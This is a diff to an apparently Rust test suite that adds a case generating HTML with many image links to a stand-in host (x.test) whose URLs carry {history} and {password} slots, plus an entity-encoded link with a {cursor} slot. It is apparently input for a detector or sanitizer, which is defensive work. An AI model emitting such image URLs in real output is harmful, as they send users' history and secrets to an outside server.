@@ -295,6 +295,23 @@ const CASES: &[Case] = &[
         make: |n| html_doc(n, "<div style=\"display:none\">x"),
     },
     Case {
+        name: "html-image-links",
+        about: "many images whose links carry a template or a slot, and links written with entities the input does not hold as they read",
+        feeds: &[Html],
+        make: |n| {
+            fill(
+                "<html><body>",
+                n,
+                |i| {
+                    format!(
+                        "<img src=\"https://x.test/p{i}.gif?d={{history}}\"><img src=\"https://x.test/v/{{password}}/{i}.gif\"><a href=\"https://x.test/a?b={i}&amp;c={{cursor}}\">a</a>"
+                    )
+                },
+                "</body></html>",
+            )
+        },
+    },
+    Case {
         name: "html-hidden-spans",
         about: "many small hidden spans in one line",
         feeds: &[Html],
